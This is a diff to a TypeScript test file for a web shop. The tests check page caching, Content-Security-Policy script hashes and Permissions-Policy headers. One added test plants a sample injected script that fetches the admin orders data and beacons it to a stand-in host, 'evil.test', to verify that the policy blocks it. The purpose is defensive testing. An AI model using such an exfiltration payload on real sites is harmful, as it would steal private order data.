@@ -16,6 +16,7 @@ import type { ServerBuild } from "react-router";
 import { createServer, type ViteDevServer } from "vite";
 import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
 import { loadConfig } from "../../app/config.server";
+import { permissionsPolicy } from "../../app/server/security-headers.server";
 import { type RunningShop, startShop } from "../../app/server/start.server";
 import { saveShopSettings } from "../../app/settings/shop-settings.server";
 import { readContentVersion } from "../../db/content-version";
@@ -50,11 +51,11 @@ afterAll(async () => {
 });
 
 /** A shop on an empty database of this run's kind, or on the given PostgreSQL database. */
-async function openShop(databaseUrl?: string, env: Record<string, string> = {}): Promise<Shop> {
+async function openShop(databaseUrl?: string, env: Record<string, string> = {}, appBuild = build): Promise<Shop> {
   const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "shop-page-cache-"));
   cleanups.push(() => fs.rmSync(dataDir, { recursive: true, force: true }));
   const config = loadConfig({ DATA_DIR: dataDir, DATABASE_URL: databaseUrl, DEMO_DATA: "off", PORT: "0", ...env });
-  const shop = await startShop({ config, log, dev: false, root: repoRoot, build });
+  const shop = await startShop({ config, log, dev: false, root: repoRoot, build: appBuild });
   const server = await new Promise<Server>((resolve) => {
     const listening = createHttpServer(shop.handle).listen(0, "127.0.0.1", () => resolve(listening));
   });
@@ -91,9 +92,9 @@ function nonces(response: Response, html: string) {
   return { allowed, used: [...new Set([...html.matchAll(/nonce="([^"]*)"/g)].map((m) => m[1]))] };
 }
 
-/** Each executable inline script of the page, by the hash a policy names it with. */
+/** Each executable inline script of the page, by the hash a policy names it with (data blocks run nothing). */
 function scriptHashes(html: string): string[] {
-  const texts = [...html.matchAll(/<script(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
+  const texts = [...html.matchAll(/<script(?![^>]*\ssrc=)(?![^>]*type="application\/ld\+json")[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
   return [...new Set(texts.map((text) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`))];
 }
 
@@ -463,5 +464,75 @@ describe.runIf(onPostgres)("the page cache across processes on one PostgreSQL da
     // must have noticed the lost connection and read the version itself.
     expect((await afterWrite(first, "/product/shawl")).html).toContain("Winter shawl");
     await expect.poll(listeners, { timeout: 5_000, interval: 100 }).toHaveLength(2);
+  });
+});
+
+describe("what no cache may keep, and what every answer says (docs/decisions/0032)", () => {
+  /** An inline script that reached a page's content, as an HTML injection anywhere in it would. */
+  const injected = "<script>fetch('/admin/orders.data').then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, '//evil.test'))</script>";
+  const injectedText = /<script>([\s\S]*?)<\/script>/.exec(injected)![1];
+  let shop: Shop;
+  beforeAll(async () => {
+    // The app as built, but every page it renders carries the injected script in its main content.
+    const injecting = async (): Promise<ServerBuild> => {
+      const app = await build();
+      const render = app.entry.module.default;
+      const withInjection: typeof render = async (...args) => {
+        const response = await render(...args);
+        if (!response.headers.get("content-type")?.startsWith("text/html")) return response;
+        const html = (await response.text()).replace("</main>", `${injected}</main>`);
+        return new Response(html, { status: response.status, headers: response.headers });
+      };
+      return { ...app, entry: { ...app.entry, module: { ...app.entry.module, default: withInjection } } };
+    };
+    shop = await openShop(await newDatabaseUrl(), {}, injecting);
+    await addItem(shop, "market-bag", "Market bag");
+  });
+
+  it("allows on a kept page only the inline scripts the shop wrote, never one injected into its content", async () => {
+    await get(shop, "/product/market-bag");
+    const { response, html } = await get(shop, "/product/market-bag");
+    expect(response.headers.get("x-page-cache")).toBe("hit");
+    expect(html).toContain(injected);
+    const allowed = /script-src ([^;]*)/.exec(response.headers.get("content-security-policy")!)![1].split(" ");
+    expect(allowed).not.toContain(`'sha256-${createHash("sha256").update(injectedText).digest("base64")}'`);
+    // The shop's own scripts still run: every other inline script that runs code is allowed.
+    const own = scriptHashes(html.replace(injected, ""));
+    expect(own.length).toBeGreaterThan(0);
+    expect(allowed).toEqual(["'self'", ...own]);
+  });
+
+  it("marks every answer that is not a kept page private and unstorable, data and JSON included", async () => {
+    const answers: [string, RequestInit?][] = [
+      ["/admin/orders.data"],
+      ["/admin/orders"],
+      ["/catalog.data"],
+      ["/product/market-bag.data"],
+      ["/cart.data"],
+      ["/cart"],
+      ["/cart/lines"],
+      ["/no-such-page"],
+      ["/healthz"],
+      ["/order-requests", { method: "POST", headers: { origin: shop.url, "content-type": "application/x-www-form-urlencoded" }, body: "name=x" }],
+    ];
+    for (const [pathname, init] of answers) {
+      const response = await fetch(shop.url + pathname, { redirect: "manual", ...init });
+      expect(response.headers.get("cache-control"), pathname).toBe("private, no-store");
+      expect(response.headers.get("permissions-policy"), pathname).toBe(permissionsPolicy);
+      await response.body?.cancel();
+    }
+  });
+
+  it("turns off the browser features the shop never uses on kept pages, their 304s and files too", async () => {
+    await get(shop, "/catalog");
+    const kept = await get(shop, "/catalog");
+    expect(kept.response.headers.get("x-page-cache")).toBe("hit");
+    const notModified = await get(shop, "/catalog", { "if-none-match": kept.response.headers.get("etag")! });
+    expect(notModified.response.status).toBe(304);
+    const robots = await fetch(`${shop.url}/robots.txt`);
+    for (const response of [kept.response, notModified.response, robots]) {
+      expect(response.headers.get("permissions-policy")).toBe(permissionsPolicy);
+    }
+    expect(permissionsPolicy).toMatch(/camera=\(\).*geolocation=\(\).*microphone=\(\).*payment=\(\).*usb=\(\)/);
   });
 });
